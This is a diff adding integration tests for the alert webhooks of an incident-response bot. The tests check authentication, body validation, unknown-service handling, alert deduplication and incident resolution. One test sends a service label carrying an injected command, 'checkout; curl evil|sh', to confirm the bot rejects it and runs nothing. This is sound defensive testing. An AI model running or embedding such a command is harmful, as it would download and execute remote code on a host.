@@ -1,0 +1,222 @@
+import { rmSync } from "node:fs";
+import Database from "better-sqlite3";
+import { afterEach, describe, expect, it } from "vitest";
+import { type StandIn, startSlackStandIn } from "../support/slack/standin.js";
+import { alertmanagerBody, hmacHeaders } from "./alert-payloads.js";
+import { type BotDir, botConfig } from "./bot-config.js";
+import { httpRequest, killServe, type Serve, startServe, stopServe } from "./serve-process.js";
+
+const TOKEN = "am-token-0123456789";
+const SECRET = "generic-secret-0123456789";
+const ENV = { WHY502_AM_TOKEN: TOKEN, WHY502_HOOK_SECRET: SECRET, WHY502_GRAFANA_PASSWORD: "grafana-pw" };
+const CHANNEL = "C0CHECKOUT";
+
+let standin: StandIn | undefined;
+const bots: Serve[] = [];
+let dir: BotDir | undefined;
+afterEach(async () => {
+  for (const b of bots.splice(0)) await stopServe(b);
+  await standin?.close();
+  standin = undefined;
+  if (dir) rmSync(dir.dir, { recursive: true, force: true });
+  dir = undefined;
+});
+
+async function setup(alerts: Record<string, unknown> = {}) {
+  standin = await startSlackStandIn({
+    channels: [
+      { id: CHANNEL, name: "checkout-oncall", members: ["U0ANA"] },
+      { id: "C0OPS", name: "ops", members: [] },
+    ],
+  });
+  dir = botConfig({
+    apiUrl: standin.url,
+    extra: {
+      alerts: {
+        fallback_channel: "C0OPS",
+        max_body: 64 * 1024,
+        sources: {
+          alertmanager: { bearer_env: "WHY502_AM_TOKEN" },
+          grafana: { basic: { user: "grafana", password_env: "WHY502_GRAFANA_PASSWORD" } },
+          generic: {
+            hmac: {
+              secret_env: "WHY502_HOOK_SECRET",
+              header: "X-Why502-Signature",
+              timestamp_header: "X-Why502-Timestamp",
+            },
+          },
+        },
+        ...alerts,
+      },
+    },
+    slackChannel: CHANNEL,
+  });
+  const bot = await serve(dir);
+  return { standin, dir, bot };
+}
+
+async function serve(d: BotDir): Promise<Serve> {
+  const b = await startServe({ config: d.config, mode: "http", env: ENV });
+  bots.push(b);
+  return b;
+}
+
+const am = (b: Serve, body: string, token = TOKEN) =>
+  httpRequest(b.port, "/hooks/alertmanager", {
+    method: "POST",
+    body,
+    headers: { "content-type": "application/json", authorization: `Bearer ${token}` },
+  });
+
+function rows(db: string, sql: string): Record<string, unknown>[] {
+  const d = new Database(db, { readonly: true, timeout: 2000 });
+  try {
+    return d.prepare(sql).all() as Record<string, unknown>[];
+  } finally {
+    d.close();
+  }
+}
+
+describe("alert webhooks: what a sender reads back", () => {
+  it("wrong token, bad signature, stale timestamp, malformed JSON, oversized, wrong shape, unknown service, shell in a label, resolved first", async () => {
+    const { bot, dir, standin } = await setup();
+    const firing = alertmanagerBody({ status: "firing", service: "checkout" });
+    const wrong = await am(bot, firing, "nope");
+    expect([wrong.status, JSON.parse(wrong.body).error]).toEqual([401, "missing or wrong bearer token"]);
+    const none = await httpRequest(bot.port, "/hooks/alertmanager", { method: "POST", body: firing });
+    expect(none.status).toBe(401);
+
+    const generic = JSON.stringify({ service: "checkout", status: "firing", key: "cron-check" });
+    const badSig = await httpRequest(bot.port, "/hooks/generic", {
+      method: "POST",
+      body: generic,
+      headers: { ...hmacHeaders("wrong", generic) },
+    });
+    expect([badSig.status, JSON.parse(badSig.body).error]).toEqual([
+      401,
+      "missing or wrong X-Why502-Signature signature",
+    ]);
+    const stale = await httpRequest(bot.port, "/hooks/generic", {
+      method: "POST",
+      body: generic,
+      headers: hmacHeaders(SECRET, generic, Math.floor(Date.now() / 1000) - 600),
+    });
+    expect([stale.status, JSON.parse(stale.body).error]).toEqual([
+      401,
+      "missing or stale X-Why502-Timestamp (unix seconds within 300 s)",
+    ]);
+
+    const malformed = await am(bot, "{not json");
+    expect([malformed.status, JSON.parse(malformed.body).error]).toEqual([400, "the body is not JSON"]);
+    const big = await am(bot, JSON.stringify({ pad: "x".repeat(70 * 1024) }));
+    expect(big.status).toBe(413);
+    expect(JSON.parse(big.body).error).toMatch(/limit of 65536 bytes|limit is 65536/);
+    const shape = await am(bot, JSON.stringify({ version: "4", alerts: "no" }));
+    expect(shape.status).toBe(422);
+    expect(JSON.parse(shape.body)).toMatchObject({
+      error: "the body is not a alertmanager payload",
+      detail: expect.any(Array),
+    });
+
+    const unknown = await am(bot, alertmanagerBody({ status: "firing", service: "billing" }));
+    expect(unknown.status).toBe(422);
+    expect(JSON.parse(unknown.body).error).toMatch(
+      /^no service in the inventory matches these alerts' labels \(service, upstream, job\)/,
+    );
+    const shell = await am(
+      bot,
+      alertmanagerBody({ status: "firing", service: "checkout; curl evil|sh", fingerprint: "ffff" }),
+    );
+    expect(shell.status).toBe(422);
+    // The fallback channel hears of each unknown service once an hour, not once per delivery.
+    await am(bot, alertmanagerBody({ status: "firing", service: "billing" }));
+    const notes = await standin.waitFor(
+      () => standin.messages("C0OPS").length >= 2 && standin.messages("C0OPS"),
+      10_000,
+    );
+    expect(notes.map((m) => m.text)).toEqual([
+      expect.stringMatching(/"billing", which is not a service/),
+      expect.stringMatching(/"checkout; curl evil\|sh"/),
+    ]);
+
+    const resolvedFirst = await am(
+      bot,
+      alertmanagerBody({ status: "resolved", service: "checkout", fingerprint: "abcd" }),
+    );
+    expect(resolvedFirst.status).toBe(200);
+    expect(JSON.parse(resolvedFirst.body).alerts[0].outcome).toBe("ignored");
+
+    const off = await httpRequest(bot.port, "/hooks/nagios", { method: "POST", body: "{}" });
+    expect(off.status).toBe(404);
+    // Nothing reached a host: no incident, no run; every delivery that got past auth is recorded.
+    expect(rows(dir.db, "SELECT id FROM incidents")).toEqual([]);
+    expect(rows(dir.db, "SELECT id FROM runs")).toEqual([]);
+    expect(rows(dir.db, "SELECT outcome FROM alert_events ORDER BY seq").map((r) => r.outcome)).toEqual([
+      "unknown_service",
+      "unknown_service",
+      "unknown_service",
+      "ignored: a resolution with no open incident",
+    ]);
+    expect(standin.messages(CHANNEL)).toHaveLength(0);
+    const metrics = (await httpRequest(bot.port, "/metrics")).body;
+    expect(metrics).toMatch(/why502_webhooks_total\{source="alertmanager",status="401"\} 2/);
+    expect(metrics).toMatch(/why502_webhooks_total\{source="generic",status="401"\} 2/);
+    expect(metrics).toMatch(/why502_webhooks_total\{source="alertmanager",status="413"\} 1/);
+  });
+
+  it("1,000 firings from several senders within 10 s: one incident, one thread, one diagnosis, all answered 2xx and recorded; resolved closes it", async () => {
+    const { bot, dir, standin } = await setup();
+    const started = Date.now();
+    const senders = 8;
+    const statuses: number[] = [];
+    await Promise.all(
+      Array.from({ length: senders }, async (_, s) => {
+        for (let i = 0; i < 1000 / senders; i++) {
+          // Several gateways fire the same alert: other fingerprints, the same service.
+          const body = alertmanagerBody({
+            status: "firing",
+            service: "checkout",
+            fingerprint: `fp-gw${s % 3}`,
+            instance: `gw-${s % 3}`,
+          });
+          statuses.push((await am(bot, body)).status);
+        }
+      }),
+    );
+    expect(Date.now() - started).toBeLessThan(10_000);
+    expect(statuses).toHaveLength(1000);
+    expect(statuses.every((s) => s === 200)).toBe(true);
+    expect(rows(dir.db, "SELECT count(*) AS n FROM alert_events")[0]?.n).toBe(1000);
+    expect(rows(dir.db, "SELECT count(*) AS n FROM incidents")[0]?.n).toBe(1);
+    const parent = await standin.waitFor(() => standin.messages(CHANNEL)[0], 10_000);
+    expect(parent.edits[0]?.text ?? parent.text).toMatch(/Investigating 502s on checkout/);
+    await standin.waitFor(() => standin.replies(CHANNEL, parent.ts)[0], 20_000);
+    expect(rows(dir.db, "SELECT count(*) AS n FROM runs")[0]?.n).toBe(1);
+
+    for (const s of [0, 1, 2]) {
+      const r = await am(
+        bot,
+        alertmanagerBody({
+          status: "resolved",
+          service: "checkout",
+          fingerprint: `fp-gw${s}`,
+          instance: `gw-${s}`,
+        }),
+      );
+      expect(r.status).toBe(200);
+    }
+    const closed = await standin.waitFor(() => {
+      const p = standin.messages(CHANNEL)[0];
+      return p && /resolved after/.test(p.text) && p;
+    }, 10_000);
+    expect(closed.text).toMatch(/^checkout: resolved after \d+[smh]/);
+    await standin.waitFor(
+      () => standin.replies(CHANNEL, parent.ts).find((m) => /incident closed/.test(m.text)),
+      10_000,
+    );
+    expect(standin.messages(CHANNEL)).toHaveLength(1);
+    expect(rows(dir.db, "SELECT state, closed_reason FROM incidents")).toEqual([
+      { state: "resolved", closed_reason: "resolved" },
+    ]);
+  });
+});
